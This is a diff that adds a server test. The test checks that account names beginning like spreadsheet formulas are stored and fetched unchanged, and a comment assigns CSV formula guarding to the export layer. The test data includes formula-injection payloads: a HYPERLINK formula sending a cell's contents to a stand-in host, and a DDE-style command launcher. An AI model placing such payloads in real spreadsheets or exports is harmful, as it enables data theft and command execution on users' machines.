@@ -641,6 +641,27 @@ describe('account/create: validation', () => {
   });
 });
 
+describe('text as typed (issue 41, item 4)', () => {
+  it('stores and answers a name that starts like a spreadsheet formula exactly as typed', async () => {
+    // Guarding against CSV formulas is the export's job (src/web/lists/columns.tsx, csvCell), not the server's.
+    for (const name of [
+      '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '-1+1',
+      '+cmd',
+    ]) {
+      const res = await create(tokens.admin, person(2, { name }));
+      expect(res.status, JSON.stringify(res.body)).toBe(200);
+      expect(res.body.result.name).toBe(name);
+      const fetched = await call(ctx.app, 'GET', 'account/fetch', {
+        token: tokens.admin,
+        query: { type: '2', _id: res.body.result._id },
+      });
+      expect(fetched.body.result.users.map((u: { name: string }) => u.name)).toEqual([name]);
+    }
+  });
+});
+
 describe('account/update', () => {
   it('updates a user and refuses a type change', async () => {
     const created = (await create(tokens.admin, person(2))).body.result;
